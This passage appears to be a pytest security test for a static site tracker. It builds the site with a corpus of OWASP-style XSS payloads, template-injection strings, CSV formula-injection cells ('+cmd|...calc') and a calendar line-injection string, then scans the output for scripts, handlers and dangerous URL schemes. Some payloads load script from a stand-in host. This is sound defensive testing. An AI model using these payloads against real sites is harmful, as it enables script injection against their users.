"""Hostile pull requests never reach readers: one full build carrying every payload, then a scan of every file.

Anyone can open a pull request, so every text field of the data and of `content/` is filled with known
filter-evasion payloads (OWASP cheat-sheet patterns and friends) and built into ONE site, shared by the
tests below. Each output file is then read the way its consumer reads it (HTML with a browser's parser,
feeds as XML with their embedded HTML, JSON and CSV downloads, the calendar) and must contain no script,
handler or dangerous address that did not come from the theme itself.

Payloads the validator refuses (and which therefore never reach a build) are listed separately, each with
the exact located message a campaigner sees: refusal is a defence too.
"""

from __future__ import annotations

import csv
import functools
import hashlib
import html
import io
import json
import posixpath
import re
import shutil
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import pytest
from samples import VALID, replace, write

from tracker.build.site import BuildResult, build_site
from tracker.check.validate import validate_file
from tracker.load.yaml_strict import DEFAULT_LIMITS, Limits
from tracker.site.headers import CSP, HEADER_CSP, HEADERS, headers_text
from tracker.text.flagged import FlaggedDomains

ROOT = Path(__file__).resolve().parent.parent
TODAY = date(2026, 11, 27)
NAME = "data/platforms.yaml"

# --- the payloads ---------------------------------------------------------------------------------

# Each is accepted by the validator (it is only text) and must come out harmless wherever it is printed.
# Numbers in alert() make each one findable in the output.
XSS_PAYLOADS: tuple[str, ...] = (
    '<script>alert("xss-1")</script>',
    "<SCRIPT SRC=https://xss.example.org/xss-2.js></SCRIPT>",
    "<ScRiPt>alert(3)</sCrIpT>",
    "<scr<script>ipt>alert(4)</scr</script>ipt>",
    "<<script>alert(5);//<</script>",
    "<img src=x onerror=alert(6)>",
    '<IMG SRC="javascript:alert(7);">',
    "<IMG SRC=JaVaScRiPt:alert(8)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#57;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x30&#x29>",
    '<IMG SRC="jav\tascript:alert(11);">',
    '<IMG SRC="jav&#x0A;ascript:alert(12);">',
    "<svg onload=alert(13)>",
    "<svg><script>alert(14)</script></svg>",
    '<svg><a xlink:href="javascript:alert(15)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate attributeName=href values=javascript:alert(16) /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(17)>",
    '<iframe src="javascript:alert(18)"></iframe>',
    '<iframe srcdoc="<script>alert(19)</script>"></iframe>',
    '<object data="javascript:alert(20)"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgyMSk8L3NjcmlwdD4=">',
    '<base href="javascript:alert(22)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(23)">',
    '<style>body{background:url("javascript:alert(24)")}</style>',
    '<div style="width: expression(alert(25));">x</div>',
    '<a href="vbscript:msgbox(26)">click</a>',
    "<body onload=alert(27)>",
    "<details open ontoggle=alert(28)>",
    "<form><button formaction=javascript:alert(29)>go</button></form>",
    "<input onfocus=alert(30) autofocus>",
    '" onmouseover="alert(31)" x="',
    "' onmouseover='alert(32)' x='",
    '"><script>alert(33)</script>',
    "</title><script>alert(34)</script>",
    "</textarea><script>alert(35)</script>",
    "]]><script>alert(36)</script>",
    "--><script>alert(37)</script><!--",
    '<noscript><p title="</noscript><img src=x onerror=alert(38)>">',
    '<link rel="import" href="https://xss.example.org/x-39.html">',
    "[markdown link](javascript:alert(40))",
    "[entity link](jav&#x61;script:alert(41))",
    "[mixed case](JaVaScRiPt:alert(42))",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCg0Myk8L3NjcmlwdD4=)",
    "[vb link](vbscript:msgbox(44))",
    "<javascript:alert(45)>",
    "[reference link][r46]\n\n[r46]: javascript:alert(46)",
    '[title attribute](https://news.example.org/ "onmouseover=alert(47)")',
    '[breakout](https://news.example.org/"onmouseover="alert(48))',
    '<a href="https://news.example.org/" onclick="alert(49)">click</a>',
    "`<script>alert(50)</script>`",
    "    <script>alert(51)</script>",
    "&lt;script&gt;alert(52)&lt;/script&gt;",
    r"\u003cscript\u003ealert(53)\u003c/script\u003e",
    '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(54)</x:script>',
    "tplA{{ 7*7 }}tplZ",
    "{{ 7777*7777 }}",
    "{% for x in range(3) %}tplX{% endfor %}",
    "tplB{{ config }}{{ self }}tplB",
    "${7*7} #{7*7} <%= 7*7 %> {{'a'~'b'}}",
    "[file link]({filename}/../../pelicanconf.py) {static}/x |filename|y",
    '=HYPERLINK("https://xss.example.org/","csv-61")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)
assert len(XSS_PAYLOADS) >= 30

# Addresses the validator accepts (they are http(s) to a harmless host) but whose characters must be
# escaped wherever an address is printed, in an attribute above all.
URL_PAYLOADS: tuple[str, ...] = (
    'https://news.example.org/a"onmouseover="alert(101)',
    "https://news.example.org/'><script>alert(102)</script>",
    "https://news.example.org/?q=<svg/onload=alert(103)>",
    'https://news.example.org/#"><img/src=x/onerror=alert(104)>',
    "HTTPS://NEWS.EXAMPLE.ORG/UPPER-105",
    "https://news.example.org/{{7*7}}/tplC",
)

# A scheduled (future) event's title that tries to add lines to the calendar file.
ICS_INJECTION = "Hearing\r\nBEGIN:VEVENT\r\nSUMMARY:injected-ics\r\nEND:VEVENT"

# Flagged hosts of the "mentions" platform, and the ways their names are typed in its free text. Plain
# text mentions are allowed (reports must be able to say which site they mean) but are printed defanged.
FLAGGED_TEXT_HOSTS = ("defang-me.example.invalid", "bäd-idn.example.invalid")
MENTIONS = (
    "defang-me.example.invalid",
    "WWW.DEFANG-ME.EXAMPLE.INVALID",
    "mirror.defang-me.example.invalid.",
    "xn--bd-idn-bua.example.invalid",
    "BÄD-IDN.example.invalid",
    "defang-me。example。invalid",
    "defang-me．example．invalid",
)
HIDDEN_HOST = "hidden-board.example.invalid"

# Where each field's text is marked, so a test can tell which fields reached the pages at all (a scan of
# pages that never print a field would prove nothing about it).
FIELD_MARKERS = {
    "regulator name": "rgname",
    "regulator jurisdiction": "rgjur",
    "regulator law": "rglaw",
    "regulator event title": "rgevtitle",
    "regulator event body": "rgevbody",
    "regulator event source title": "rgsrctitle",
    "platform name": "plname",
    "platform summary": "plsummary",
    "event title": "evtitle",
    "event body": "evbody",
    "source title": "srctitle",
    "scheduled event title": "schedtitle",
    "article title": "artitle",
    "article body": "arbody",
    "page title": "pgtitle",
    "page body": "pgbody",
}


def q(text: str) -> str:
    """A YAML double-quoted scalar (JSON strings are YAML)."""
    return json.dumps(text, ensure_ascii=False)


def hostile_data() -> str:
    """One regulator and one platform per payload, every text field carrying one, plus the mentions."""
    n = len(XSS_PAYLOADS)
    regulators: list[str] = []
    platforms: list[str] = []
    for i, payload in enumerate(XSS_PAYLOADS):
        url = URL_PAYLOADS[i % len(URL_PAYLOADS)]
        source = (
            f"          - title: {q(f'{payload} SRC srctitle{i}')}\n"
            f"            url: {q(url)}\n"
            f"            archived: {q('https://web.archive.org/web/2026/' + url)}\n"
        )
        regulators.append(
            f"  - id: r{i}\n"
            f"    name: {q(f'{payload} rgname{i}')}\n"
            f"    jurisdiction: {q(f'{XSS_PAYLOADS[(i + 1) % n]} rgjur{i}')}\n"
            f"    law: {q(f'{XSS_PAYLOADS[(i + 2) % n]} rglaw{i}')}\n"
            f"    url: {q(url)}\n"
            "    response_window_working_days: 20\n"
            "    holidays: GB-ENG\n"
            "    events:\n"
            "      - date: 2026-03-02\n"
            "        type: other\n"
            "        by: regulator\n"
            f"        title: {q(f'{payload} rgevtitle{i}')}\n"
            f"        body: {q(f'{payload}{chr(10) * 2}rgevbody{i}')}\n"
            "        sources:\n"
            f"          - title: {q(f'{payload} rgsrctitle{i}')}\n"
            f"            url: {q(url)}\n"
        )
        scheduled_title = f"{ICS_INJECTION} schedtitle{i}" if i == 0 else f"{payload} schedtitle{i}"
        platforms.append(
            f"  - id: p{i}\n"
            f"    name: {q(f'{payload} plname{i}')}\n"
            "    named: true\n"
            f"    naming_source: {q(url)}\n"
            f"    domains: [p{i}.hostile.invalid]\n"
            "    harms: [ncii]\n"
            f"    summary: {q(f'{payload}{chr(10) * 2}plsummary{i}')}\n"
            f"    regulators: [r{i}]\n"
            "    events:\n"
            "      - date: 2026-01-05\n"
            "        type: reported\n"
            f"        regulator: r{i}\n"
            "        by: survivor\n"
            f"        title: {q(f'{payload} evtitle{i}')}\n"
            f"        body: {q(f'{payload}{chr(10) * 2}evbody{i}')}\n"
            "      - date: 2026-02-10\n"
            "        type: acknowledged\n"
            f"        regulator: r{i}\n"
            "        by: regulator\n"
            f"        title: {q(f'Acknowledged {payload}')}\n"
            "        sources:\n"
            f"{source}"
            "      - date: 2027-01-15\n"
            "        type: scheduled\n"
            f"        regulator: r{i}\n"
            "        by: court\n"
            f"        title: {q(scheduled_title)}\n"
            "        sources:\n"
            f"{source}"
        )
    mentions = ", ".join(MENTIONS)
    # A regulator's name, jurisdiction and law are printed in pages and in every feed item of the
    # platforms reported to it: flagged hosts typed there are defanged too.
    regulators.append(
        "  - id: watchdog\n"
        f"    name: {q(f'Watchdog of {MENTIONS[6]}')}\n"
        f"    jurisdiction: {q(f'Wherever {MENTIONS[0]} is read')}\n"
        f"    law: {q(f'The Act about {MENTIONS[3]}')}\n"
        "    url: https://watchdog.example.org/\n"
        "    response_window_working_days: 20\n"
        "    holidays: GB-ENG\n"
        "    events: []\n"
    )
    platforms.append(
        "  - id: mentions\n"
        f"    name: {q(f'Forum known as {MENTIONS[0]} (fictional)')}\n"
        "    named: true\n"
        "    naming_source: https://news.example.org/mentions\n"
        f"    domains: [{', '.join(FLAGGED_TEXT_HOSTS)}]\n"
        "    harms: [ncii]\n"
        f"    summary: {q(f'Reported under the addresses {mentions}.')}\n"
        "    regulators: [r0, watchdog]\n"
        "    events:\n"
        "      - date: 2026-01-06\n"
        "        type: reported\n"
        "        regulator: r0\n"
        "        by: campaign-group\n"
        f"        title: {q(f'Reported {MENTIONS[1]} and {MENTIONS[4]}')}\n"
        f"        body: {q(f'The group named {mentions} in its report.')}\n"
        "      - date: 2026-02-11\n"
        "        type: acknowledged\n"
        "        regulator: r0\n"
        "        by: regulator\n"
        f"        title: {q(f'Acknowledged the report about {MENTIONS[2]}')}\n"
        "        sources:\n"
        f"          - title: {q(f'Coverage of {MENTIONS[5]} and {MENTIONS[3]}')}\n"
        "            url: https://news.example.org/coverage\n"
    )
    digest = hashlib.sha256(HIDDEN_HOST.encode("ascii")).hexdigest()
    platforms.append(
        "  - id: unnamed-board\n"
        "    name: Image board Z (not named)\n"
        "    named: false\n"
        f"    domain_sha256: [{digest}]\n"
        "    harms: [ncii]\n"
        "    summary: An image board that the regulator does not name.\n"
        "    regulators: [r1]\n"
        "    events:\n"
        "      - date: 2026-01-07\n"
        "        type: reported\n"
        "        regulator: r1\n"
        "        by: survivor\n"
        "        title: Reported to the regulator\n"
    )
    return "regulators:\n" + "".join(regulators) + "platforms:\n" + "".join(platforms)


def hostile_article() -> str:
    body = "\n\n".join(XSS_PAYLOADS)
    return (
        "Title: <script>alert('article-title')</script> \" onmouseover=\"alert(201) tplA{{ 7*7 }}tplZ artitle0\n"
        "Date: 2026-01-15\n"
        "Slug: hostile-article\n"
        "Summary: <img src=x onerror=alert(202)> [s](javascript:alert(203)) arsummary0\n"
        "\n"
        f"{body}\n\n"
        f"Mentions: {', '.join(MENTIONS)}; a link: [the forum](https://defang-me.example.invalid/).\n\n"
        "<a href=javascript:alert(204)>raw anchor</a> arbody0\n"
    )


def hostile_page() -> str:
    """A Pelican page (`content/pages/`) goes through another template than an article."""
    return (
        "Title: </title><script>alert('page-title')</script> pgtitle0\n"
        "Slug: hostile-page\n"
        "\n" + "\n\n".join(XSS_PAYLOADS[:30]) + "\n\npgbody0\n"
    )


# --- the one hostile build --------------------------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    output: Path
    flagged: FlaggedDomains


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Hostile:
    base = tmp_path_factory.mktemp("hostile")
    data = base / "platforms.yaml"
    data.write_text(hostile_data(), encoding="utf-8")
    content = base / "content"
    shutil.copytree(ROOT / "content", content)
    (content / "hostile-article.md").write_text(hostile_article(), encoding="utf-8")
    (content / "pages" / "hostile-page.md").write_text(hostile_page(), encoding="utf-8")
    result: BuildResult = build_site(
        today=TODAY,
        settings_file=ROOT / "pelicanconf.py",
        output=base / "output",
        data=data,
        extra_settings={"PATH": str(content), "THEME": str(ROOT / "theme")},
    )
    hosts = [*FLAGGED_TEXT_HOSTS, *(f"p{i}.hostile.invalid" for i in range(len(XSS_PAYLOADS)))]
    digest = hashlib.sha256(HIDDEN_HOST.encode("ascii")).hexdigest()
    return Hostile(result.output, FlaggedDomains.build(hosts, [digest]))


def test_the_hostile_data_is_accepted_by_the_validator(tmp_path: Path) -> None:
    """The payloads above are only text: the build (not the validator) is what must neutralise them."""
    result = validate_file(write(tmp_path, hostile_data()), TODAY, display=NAME)
    assert [p.format() for p in result.problems] == []
    assert result.dataset is not None
    assert len(result.dataset.platforms) == len(XSS_PAYLOADS) + 2


# --- scanning ---------------------------------------------------------------------------------------

DANGEROUS_SCHEME = re.compile(r"^(?:javascript|data|vbscript|livescript|mocha):")
URL_ATTRIBUTES = frozenset(
    {
        "href",
        "src",
        "action",
        "formaction",
        "xlink:href",
        "data",
        "poster",
        "background",
        "cite",
        "codebase",
        "longdesc",
        "lowsrc",
        "dynsrc",
        "manifest",
        "ping",
        "profile",
        "usemap",
        "icon",
        "classid",
        "archive",
    }
)
ANIMATION_VALUES = frozenset({"values", "to", "from", "by"})
FORBIDDEN_ELEMENTS = frozenset({"iframe", "frame", "frameset", "object", "embed", "applet", "base", "style"})
ALLOWED_HTTP_EQUIV = frozenset({"content-security-policy", "content-type", "x-ua-compatible"})
JSON_SCRIPT_TYPES = frozenset({"application/ld+json", "application/json"})


def dangerous_url(value: str) -> bool:
    """What a browser would run: it drops leading controls and spaces and every tab and newline."""
    compact = re.sub(r"[\x00-\x20\x7f]", "", html.unescape(value) if "&" in value else value).lower()
    return bool(DANGEROUS_SCHEME.match(compact))


@functools.cache
def theme_scripts() -> frozenset[str]:
    """The only scripts a page may load: the theme's own files, as copied to `theme/` in the output."""
    static = ROOT / "theme" / "static"
    return frozenset(f"theme/{p.relative_to(static).as_posix()}" for p in static.rglob("*.js"))


class _HTMLScan(HTMLParser):
    """Parses a page (or a fragment from a feed) as a browser would tokenise it, noting every hazard."""

    def __init__(self, page: str, output: Path | None) -> None:
        super().__init__(convert_charrefs=True)
        self.page = page
        self.output = output
        self.found: list[str] = []
        self.csp: list[tuple[int, str]] = []
        self.referrer: list[str] = []
        self.loads_before_csp: list[str] = []
        self.links: list[str] = []
        self._script: str | None = None
        self._script_text: list[str] = []
        self._order = 0

    def _resolve(self, url: str) -> str | None:
        """The output-relative path a same-site URL points at; None for other sites."""
        if re.match(r"^[a-z][a-z0-9+.-]*:|^//", url, re.I):
            return None
        path = url.split("#", 1)[0].split("?", 1)[0]
        if path.startswith("/"):
            return posixpath.normpath(path.lstrip("/"))
        return posixpath.normpath(posixpath.join(posixpath.dirname(self.page), path))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._order += 1
        values = {name: value or "" for name, value in attrs}
        where = f"{self.page}: <{tag}>"
        if tag in FORBIDDEN_ELEMENTS:
            self.found.append(f"{where} element is not allowed")
        for name, value in values.items():
            if name.startswith("on"):
                self.found.append(f"{where} event handler {name}={value!r}")
            elif name in ("style", "srcdoc"):
                self.found.append(f"{where} {name} attribute {value!r}")
            elif name in URL_ATTRIBUTES and dangerous_url(value):
                self.found.append(f"{where} dangerous address {name}={value!r}")
            elif name == "srcset" and any(dangerous_url(part.strip()) for part in value.split(",")):
                self.found.append(f"{where} dangerous address in srcset {value!r}")
            elif name in ANIMATION_VALUES and tag in ("animate", "set") and "script:" in value.lower():
                self.found.append(f"{where} animation to a script address {value!r}")
        if tag == "a" and "href" in values:
            self.links.append(values["href"])
        if tag == "meta":
            equiv = values.get("http-equiv", "").lower()
            if equiv and equiv not in ALLOWED_HTTP_EQUIV:
                self.found.append(f"{where} http-equiv={equiv!r}")
            if equiv == "content-security-policy":
                self.csp.append((self._order, values.get("content", "")))
            if values.get("name", "").lower() == "referrer":
                self.referrer.append(values.get("content", ""))
        if tag == "link" and "import" in values.get("rel", "").lower().split():
            self.found.append(f"{where} HTML import")
        if tag in ("script", "link", "img") and not self.csp:
            self.loads_before_csp.append(tag)
        if tag == "img":
            target = self._resolve(values.get("src", ""))
            if target is None or self.output is None or not (self.output / target).is_file():
                self.found.append(
                    f"{where} image that is not one of the site's own files: {values.get('src')!r}"
                )
        if tag == "script":
            self._script = values.get("type", "").lower()
            self._script_text = []
            src = values.get("src")
            if src is None:
                if self._script not in JSON_SCRIPT_TYPES:
                    self.found.append(f"{where} inline script")
            else:
                target = self._resolve(src)
                if target not in theme_scripts():
                    self.found.append(f"{where} script that is not one of the theme's: {src!r}")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self.handle_endtag(tag)

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._script_text.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._script is not None:
            text = "".join(self._script_text).strip()
            if text and self._script in JSON_SCRIPT_TYPES:
                try:
                    json.loads(text)
                except ValueError:
                    self.found.append(f"{self.page}: <script type={self._script}> is not JSON: {text[:80]!r}")
            elif text:
                self.found.append(f"{self.page}: <script> with inline code {text[:80]!r}")
            self._script = None


def scan_html(page: str, text: str, output: Path | None) -> _HTMLScan:
    scan = _HTMLScan(page, output)
    scan.feed(text)
    scan.close()
    return scan


HTML_KEYS = re.compile(r"(^|_)html$")
URL_KEYS = re.compile(r"(^|_)(url|href|link|icon|favicon|image|banner_image|avatar|naming_source|archived)$")
ATOM_TEXT = frozenset({"content", "summary", "title", "subtitle", "rights"})
XML_LINK_TEXT = frozenset({"link", "loc", "comments", "docs", "uri", "icon", "logo", "url"})


def _local(tag: str) -> str:
    return tag.rsplit("}", 1)[-1]


def scan_xml(page: str, text: str) -> list[str]:
    """Feeds and sitemaps: well-formed, no dangerous address, and the HTML they carry is clean."""
    try:
        root = ET.fromstring(text)
    except ET.ParseError as error:
        return [f"{page}: not well-formed XML: {error}"]
    found: list[str] = []
    is_rss = _local(root.tag) == "rss"
    parents = {child: parent for parent in root.iter() for child in parent}
    for element in root.iter():
        name = _local(element.tag)
        parent = parents.get(element)
        where = f"{page} <{_local(parent.tag)}/{name}>" if parent is not None else f"{page} <{name}>"
        for attribute, value in element.attrib.items():
            if _local(attribute) in ("href", "src", "url") and dangerous_url(value):
                found.append(f"{page}: <{name}> dangerous address {value!r}")
        body = element.text or ""
        if name in XML_LINK_TEXT and dangerous_url(body.strip()):
            found.append(f"{page}: <{name}> dangerous address {body!r}")
        kind = element.get("type", "text")
        if (is_rss and name in ("description", "encoded")) or (name in ATOM_TEXT and kind == "html"):
            found += scan_html(where, body, None).found
        elif name in ATOM_TEXT and kind == "xhtml":
            inner = "".join(ET.tostring(child, encoding="unicode") for child in element)
            found += scan_html(where, inner, None).found
    return found


def _json_strings(value: object, key: str = "") -> Iterator[tuple[str, str]]:
    if isinstance(value, str):
        yield key, value
    elif isinstance(value, list):
        for item in value:
            yield from _json_strings(item, key)
    elif isinstance(value, dict):
        for name, item in value.items():
            yield from _json_strings(item, str(name))


def scan_json(page: str, text: str) -> list[str]:
    try:
        data = json.loads(text)
    except ValueError as error:
        return [f"{page}: not valid JSON: {error}"]
    found: list[str] = []
    for key, value in _json_strings(data):
        if HTML_KEYS.search(key):
            found += scan_html(f"{page} {key}", value, None).found
        elif URL_KEYS.search(key) and dangerous_url(value):
            found.append(f"{page}: {key} is a dangerous address {value!r}")
    return found


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def scan_csv(page: str, text: str) -> list[str]:
    found = []
    for row_number, row in enumerate(csv.reader(io.StringIO(text)), start=1):
        for cell in row:
            if cell.startswith(FORMULA_START):
                found.append(f"{page}: row {row_number}: cell starts like a formula: {cell[:60]!r}")
    return found


def ics_lines(text: str) -> list[str]:
    """Content lines with folding undone (RFC 5545: a line starting with a space or tab continues)."""
    lines: list[str] = []
    for raw in re.split(r"\r\n|\n", text):
        if raw[:1] in (" ", "\t") and lines:
            lines[-1] += raw[1:]
        elif raw:
            lines.append(raw)
    return lines


def scan_ics(page: str, text: str) -> list[str]:
    found = []
    for line in ics_lines(text):
        name = line.split(":", 1)[0].split(";", 1)[0].upper()
        if name == "URL" and dangerous_url(line.split(":", 1)[1]):
            found.append(f"{page}: dangerous URL line {line!r}")
        if line.startswith("SUMMARY:injected-ics"):
            found.append(f"{page}: a title added its own calendar line {line!r}")
    return found


# Template injection that would have been evaluated: what each payload renders to if it ever were.
EVALUATED = ("tplA49tplZ", "60481729", "tplXtplXtplX", "tplBtplB", "TemplateReference", "/49/tplC")


def output_files(output: Path) -> list[Path]:
    return sorted(p for p in output.rglob("*") if p.is_file())


def scan_output(output: Path) -> list[str]:
    """Every hazard in every file of a built site, as `file: what` lines."""
    found: list[str] = []
    for path in output_files(output):
        page = path.relative_to(output).as_posix()
        text = path.read_text(encoding="utf-8", errors="replace")
        found += [f"{page}: evaluated template text {e!r}" for e in EVALUATED if e in text]
        suffix = path.suffix.lower()
        if suffix in (".html", ".htm", ".svg"):
            found += scan_html(page, text, output).found
        elif suffix == ".xml":
            found += scan_xml(page, text)
        elif suffix == ".json":
            found += scan_json(page, text)
        elif suffix == ".csv":
            found += scan_csv(page, text)
        elif suffix == ".ics":
            found += scan_ics(page, text)
    return found


def readable_texts(path: Path) -> Iterator[str]:
    """The text of a file as each kind of reader sees it: raw, entity-decoded, and parsed JSON/XML."""
    raw = path.read_text(encoding="utf-8", errors="replace")
    yield raw
    yield html.unescape(raw)
    if path.suffix == ".json":
        try:
            for _, value in _json_strings(json.loads(raw)):
                yield value
                yield html.unescape(value)
        except ValueError:
            pass
    if path.suffix == ".xml":
        try:
            for element in ET.fromstring(raw).iter():
                for value in [element.text or "", *element.attrib.values()]:
                    yield value
                    yield html.unescape(value)
        except ET.ParseError:
            pass


# --- 1. the XSS corpus through every field ----------------------------------------------------------


def test_the_scanner_catches_what_it_looks_for(tmp_path: Path) -> None:
    """A scan that cannot fail proves nothing: planted hazards of every kind are each reported."""
    (tmp_path / "theme" / "js").mkdir(parents=True)
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "index.html").write_text(
        '<html><head><meta http-equiv="refresh" content="0"><base href="/"></head><body>'
        '<script>alert(1)</script><script src="https://cdn.example.org/x.js"></script>'
        '<img src="https://img.example.org/x.png"><p style="color:red" onclick="x()">'
        '<a href=" &#106;avascript:alert(1)">x</a><a href="java\tscript:x">y</a>'
        '<svg><a xlink:href="data:text/html,x">z</a><animate attributeName="href" values="javascript:x"/></svg>'
        '<iframe src="https://example.org/"></iframe><form><button formaction="vbscript:x">b</button></form>'
        "tplA49tplZ</body></html>",
        encoding="utf-8",
    )
    (tmp_path / "feed.xml").write_text(
        '<rss version="2.0"><channel><item><link>javascript:alert(1)</link>'
        "<description>&lt;img src=x onerror=alert(1)&gt;</description></item></channel></rss>",
        encoding="utf-8",
    )
    (tmp_path / "feed.json").write_text(
        json.dumps({"items": [{"content_html": "<script>x</script>", "url": "data:text/html,x"}]}),
        encoding="utf-8",
    )
    (tmp_path / "events.csv").write_text('title\n"=HYPERLINK(""x"")"\n', encoding="utf-8")
    (tmp_path / "upcoming.ics").write_text(
        "BEGIN:VCALENDAR\r\nSUMMARY:injected-ics\r\nURL:javascript:x\r\nEND:VCALENDAR\r\n", encoding="utf-8"
    )
    found = scan_output(tmp_path)
    expected_fragments = [
        "http-equiv='refresh'",
        "<base> element is not allowed",
        "inline script",
        "<script> with inline code",
        "script that is not one of the theme's: 'https://cdn.example.org/x.js'",
        "image that is not one of the site's own files",
        "style attribute",
        "event handler onclick",
        "dangerous address href=' javascript:alert(1)'",
        "dangerous address href='java\\tscript:x'",
        "dangerous address xlink:href='data:text/html,x'",
        "animation to a script address",
        "<iframe> element is not allowed",
        "dangerous address formaction='vbscript:x'",
        "evaluated template text 'tplA49tplZ'",
        "feed.xml: <link> dangerous address 'javascript:alert(1)'",
        "feed.xml <item/description>: <img> event handler onerror",
        "feed.json content_html: <script> with inline code",
        "feed.json: url is a dangerous address",
        "events.csv: row 2: cell starts like a formula",
        "upcoming.ics: a title added its own calendar line",
        "upcoming.ics: dangerous URL line",
    ]
    missing = [f for f in expected_fragments if not any(f in line for line in found)]
    assert missing == [], found


def test_no_output_file_carries_a_working_payload(hostile: Hostile) -> None:
    assert scan_output(hostile.output) == []


def test_the_demo_site_is_clean_too(site: Path) -> None:
    assert scan_output(site) == []


def test_every_kind_of_output_was_scanned(hostile: Hostile) -> None:
    """Pages, feeds in three formats, downloads and the calendar all exist, so the scan above covered them."""
    suffixes = {p.suffix for p in output_files(hostile.output)}
    assert {".html", ".xml", ".json", ".csv", ".ics"} <= suffixes
    names = {p.relative_to(hostile.output).as_posix() for p in output_files(hostile.output)}
    assert {"feeds/all.atom.xml", "feeds/all.rss.xml", "feeds/all.json", "feeds/upcoming.ics"} <= names
    assert "_headers" in names


def test_every_text_field_reaches_the_pages(hostile: Hostile) -> None:
    """Every field was printed somewhere a reader looks, so the clean scan is about real output."""
    pages = "\n".join(p.read_text(encoding="utf-8") for p in hostile.output.rglob("*.html"))
    missing = [field for field, marker in FIELD_MARKERS.items() if not re.search(rf"{marker}\d", pages)]
    assert missing == []


def test_payload_text_is_shown_escaped_not_dropped(hostile: Hostile) -> None:
    """Readers see what was typed, as text: the platform page escapes the script tag of payload 1."""
    page = (hostile.output / "platforms" / "p0" / "index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(&#34;xss-1&#34;)&lt;/script&gt; plname0" in page or (
        "&lt;script&gt;alert(&quot;xss-1&quot;)&lt;/script&gt; plname0" in page
    )


def test_template_syntax_in_data_is_printed_not_run(hostile: Hostile) -> None:
    texts = "\n".join(html.unescape(p.read_text(encoding="utf-8")) for p in hostile.output.rglob("*.html"))
    assert "tplA{{ 7*7 }}tplZ" in texts
    assert "{{ 7777*7777 }}" in texts
    assert "{% for x in range(3) %}tplX{% endfor %}" in texts


def test_calendar_titles_cannot_add_lines(hostile: Hostile) -> None:
    from icalendar import Calendar

    text = (hostile.output / "feeds" / "upcoming.ics").read_text(encoding="utf-8")
    calendar = Calendar.from_ical(text)
    summaries = [str(event.get("SUMMARY")) for event in calendar.walk("VEVENT")]
    assert not any(line.startswith("SUMMARY:injected-ics") for line in ics_lines(text))
    assert len(summaries) == len(XSS_PAYLOADS)  # one scheduled event per payload platform
    assert any("schedtitle0" in summary for summary in summaries)


def test_content_metadata_cannot_take_over_a_tracker_page(tmp_path: Path) -> None:
    """Pelican lets an article choose its own file (`Save_as:`) and writes it with "override", which makes
    Pelican silently drop the tracker's own page at that address. A content pull request must not be able to
    replace a platform's record: the build either fails (and the old site stays) or keeps the record."""
    content = tmp_path / "content"
    shutil.copytree(ROOT / "content", content)
    (content / "takeover.md").write_text(
        "Title: Takeover\nDate: 2026-01-01\nSave_as: platforms/example-forum-a/index.html\n\nTAKEN-OVER\n",
        encoding="utf-8",
    )
    output = tmp_path / "site" / "output"
    try:
        build_site(
            today=TODAY,
            settings_file=ROOT / "pelicanconf.py",
            output=output,
            data=write(tmp_path, VALID),
            extra_settings={"PATH": str(content), "THEME": str(ROOT / "theme")},
        )
    except Exception:  # refusing to build is a correct outcome
        assert not output.exists()
        return
    page = (output / "platforms" / "example-forum-a" / "index.html").read_text(encoding="utf-8")
    assert "TAKEN-OVER" not in page
    assert "Example Forum A (fictional)" in page


# Refused before any build: each with the exact message and position a campaigner sees.
LINE_ACK_TITLE = "        title: Ofcom acknowledged the report"
LINE_SOURCE_URL = "            url: https://news.example.org/ack"
LINE_SUMMARY = "    summary: A fictional forum, reported for hosting intimate images shared without consent."
LINE_NAMING = "    naming_source: https://news.example.org/forum-a"

REFUSED: tuple[tuple[str, str, str, str], ...] = (
    (
        LINE_SOURCE_URL,
        "            url: javascript:alert(1)",
        "33:18",
        "'javascript:alert(1)' is not a web address (use a full address starting with https://)",
    ),
    (
        LINE_SOURCE_URL,
        "            url: JaVaScRiPt:alert(2)",
        "33:18",
        "'JaVaScRiPt:alert(2)' is not a web address (use a full address starting with https://)",
    ),
    (
        LINE_SOURCE_URL,
        "            url: 'data:text/html;base64,PHNjcmlwdD4='",
        "33:18",
        "'data:text/html;base64,PHNjcmlwdD4=' is not a web address (use a full address starting with https://)",
    ),
    (
        LINE_NAMING,
        "    naming_source: vbscript:msgbox(3)",
        "15:20",
        "'vbscript:msgbox(3)' is not a web address (use a full address starting with https://)",
    ),
    (
        LINE_SOURCE_URL,
        "            url: //news.example.org/protocol-relative",
        "33:18",
        "'//news.example.org/protocol-relative' is not a web address (use a full address starting with https://)",
    ),
    (
        LINE_SOURCE_URL,
        '            url: "https://news.example.org/<img src=x onerror=alert(4)>"',
        "33:18",
        "'https://news.example.org/<img src=x onerror=alert(4)>' cannot be used: the address contains spaces or"
        " line breaks; copy it again from the browser's address bar (link to the document itself)",
    ),
    (
        LINE_SOURCE_URL,
        "            url: https://news.example.org@xss.example.org/",
        "33:18",
        "'https://news.example.org@xss.example.org/' cannot be used: the address has a user name or password"
        " before '@', which can disguise where a link goes; remove everything between // and @ (link to the"
        " document itself)",
